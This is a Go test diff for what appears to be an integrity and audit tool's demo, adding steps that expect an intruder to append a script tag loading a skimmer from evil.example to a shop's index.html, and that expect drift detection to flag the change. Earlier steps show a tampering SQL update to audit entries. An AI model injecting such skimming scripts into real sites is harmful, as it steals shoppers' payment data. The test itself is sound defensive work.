@@ -70,6 +70,8 @@ func TestDemoStory(t *testing.T) {
 		{"the attacker's edit is shown", 10, `UPDATE audit_entries SET actor = 'mallory' WHERE seq = \d+`},
 		{"verify fails after the tamper step", 11, `FAIL: entry seq \d+: leaf hash does not match the entry's contents(.*\n)*\s+\(exit status 1\)`},
 		{"the copy taken before the edit verifies", 11, `tollgate-before-tamper\.db(.*\n)*\s+OK.*\n\s+\(exit status 0\)`},
+		{"an intruder edits a live file on web-1", 12, `web-1\$ echo '<script src=https://evil\.example/skim\.js></script>' >> /srv/shop/current/public/index\.html`},
+		{"tollgate drift names it on web-1 only", 13, `(?s)DRIFT \(release \S+, attestation \S+\): 1 path.*\n\s+changed public/index\.html: sha256 [0-9a-f]{8}… -> [0-9a-f]{8}…, size \d+ -> \d+\n.*\(exit status 1\)`},
 	}
 	for _, s := range steps {
 		t.Run(s.name, func(t *testing.T) {
